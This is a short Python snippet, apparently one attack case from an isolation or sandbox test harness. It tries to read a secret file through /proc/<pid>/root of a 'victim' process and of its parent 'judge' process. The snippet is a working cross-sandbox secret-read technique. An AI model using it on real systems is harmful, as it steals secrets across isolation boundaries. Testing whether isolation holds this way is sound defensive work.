"""reads the secret through the root links of the victim and of the judge"""

import os


def attack():
    for pid in (TARGETS["victim"], os.getppid()):
        try:
            with open(f"/proc/{pid}/root{TARGETS['secret']}") as file:
                reached(f"by {pid}: {file.read(20)}")
        except OSError:
            pass
